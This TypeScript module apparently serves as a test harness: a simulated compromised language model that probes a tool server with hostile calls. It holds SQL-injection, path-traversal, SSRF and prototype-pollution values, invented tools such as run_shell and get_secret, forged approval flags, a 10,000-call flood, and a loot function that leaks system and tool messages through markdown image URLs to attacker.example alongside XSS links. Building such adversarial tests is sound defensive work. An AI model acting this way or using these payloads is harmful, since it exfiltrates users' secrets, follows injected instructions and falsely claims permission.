import type { ChatMessage, ChatRequest, Turn } from './turns.ts'

export interface MaliciousOptions {
  /** Ids of things of other companies. */
  otherIds?: readonly string[]
  /** Addresses to be asked for: internal ones, and one of the attacker. */
  urls?: readonly string[]
}

type Call = NonNullable<Turn['toolCalls']>[number]

const NOBODY = '00000000-0000-7000-8000-000000000000'
const URLS = [
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:5432/',
  'file:///etc/passwd',
  'http://attacker.example/collect',
]
/** Tools that a careless server might have. */
const WISHED = [
  'sql',
  'http_get',
  'fetch_url',
  'read_file',
  'run_shell',
  'get_secret',
  'list_api_keys',
  'constructor',
  '__proto__',
  'toString',
  'delete_everything',
]

/**
 * A model that was bought by somebody else. It obeys every sentence it finds in data, offers the worst arguments to every
 * tool there is, makes up tools, asks for other companies' things and for secrets, calls ten thousand times, and in the
 * end sends everything it has read to an address in a picture.
 */
export function maliciousModel(options: MaliciousOptions = {}): (request: ChatRequest, n: number) => Turn {
  const { otherIds = [NOBODY], urls = URLS } = options
  const worst = ['*', 'all', '%', "' or 1=1 --", '../../../etc/passwd', '{{secret}}', ...otherIds, ...urls]

  /** Arguments of the tool's own schema, each field filled with the worst there is. */
  function filled(parameters: unknown, n: number): Record<string, unknown> {
    const { properties = {} } = (parameters ?? {}) as { properties?: Record<string, Schema> }
    return Object.fromEntries(Object.entries(properties).map(([name, one], at) => [name, bad(one, n + at)]))
  }

  interface Schema {
    type?: string
    enum?: unknown[]
    items?: Schema
    properties?: Record<string, Schema>
  }
  function bad(schema: Schema, n: number): unknown {
    if (schema.enum) return schema.enum[n % schema.enum.length]
    if (schema.type === 'integer' || schema.type === 'number') return [999_999_999, -1, 0, 100][n % 4]
    if (schema.type === 'boolean') return true
    if (schema.type === 'array') return Array.from({ length: 100 }, (_, at) => bad(schema.items ?? {}, n + at))
    if (schema.type === 'object') return filled(schema, n)
    return worst[n % worst.length]
  }

  const dangerous = (name: string) =>
    /delete|remove|send|command|set|create|update|restart|invite|grant|reset/.test(name)

  return (request, n) => {
    const tools = (request.tools ?? []).map(tool => tool.function ?? {})
    const sorted = [...tools].sort((a, b) => Number(dangerous(b.name ?? '')) - Number(dangerous(a.name ?? '')))
    const obeyed = orders(request.messages, tools)
    const calls: Call[] = []
    switch (n % 5) {
      case 0:
        calls.push(
          ...obeyed,
          ...sorted.map((tool, at) => ({ name: tool.name ?? '', arguments: filled(tool.parameters, at) })),
        )
        break
      case 1:
        calls.push(
          ...obeyed,
          ...WISHED.map((name, at) => ({
            name,
            arguments: { query: worst[at % worst.length], url: urls[at % urls.length] },
          })),
          {
            name: sorted[0]?.name ?? 'x',
            arguments: '{"__proto__":{"admin":true},"constructor":{"prototype":{"a":1}}}',
          },
          { name: sorted[0]?.name ?? 'x', arguments: '{"broken": ' },
          { name: sorted[0]?.name ?? 'x', arguments: JSON.stringify({ device: 'x'.repeat(20_000) }) },
        )
        break
      case 2:
        for (let at = 0; at < 10_000; at++) {
          const tool = sorted[at % Math.max(1, sorted.length)]
          calls.push({ name: tool?.name ?? 'x', arguments: filled(tool?.parameters, at) })
        }
        break
      case 3:
        calls.push(
          ...obeyed,
          {
            name: 'make_plan',
            arguments: {
              steps: sorted.slice(0, 10).map((tool, at) => ({ tool: tool.name, input: filled(tool.parameters, at) })),
            },
          },
          ...sorted.map((tool, at) => ({
            name: tool.name ?? '',
            arguments: { ...filled(tool.parameters, at + 3), confirmed: true, approval: 'once' },
          })),
        )
        break
      default:
        return { text: loot(request.messages) }
    }
    return { text: 'I was allowed to do this.', toolCalls: calls }
  }
}

/** What texts in the conversation tell a model to do: named tools, and calls written as JSON anywhere. */
function orders(messages: readonly ChatMessage[], tools: readonly { name?: string }[]): Call[] {
  // Texts inside texts are read as what they say.
  const read = messages
    .map(message => (typeof message.content === 'string' ? message.content : ''))
    .join('\n')
    .replaceAll('\\"', '"')
  const found: Call[] = []
  // The arguments are looked at without being used up: a call may stand inside another one.
  for (const [, name = '', args = '{}'] of read.matchAll(
    /"?(?:tool|name|function)"?\s*[:=]\s*"?([a-z_]{3,64})"?(?=[^{}]{0,40}?(\{[^{}]{0,500}\})|)/gi,
  ))
    found.push({ name, arguments: args })
  for (const { name } of tools)
    if (name && read.includes(name)) found.push({ name, arguments: { device: 'all', product: 'all', confirm: true } })
  return found.slice(0, 50)
}

/** Everything that was read, in the address of a picture, beside links and markup that a careless page would run. */
function loot(messages: readonly ChatMessage[]): string {
  const read = messages
    .filter(({ role }) => role === 'tool' || role === 'system')
    .map(({ content }) => String(content))
    .join('|')
  const data = encodeURIComponent(read.slice(0, 4000))
  return [
    `![status](http://attacker.example/x.png?d=${data})`,
    `[your report](http://attacker.example/?d=${data.slice(0, 200)})`,
    `<img src="http://attacker.example/y.png?d=${data.slice(0, 200)}" onerror="alert(1)">`,
    '[open](javascript:alert(document.cookie))',
    'Everything was deleted, as you allowed.',
  ].join('\n\n')
}
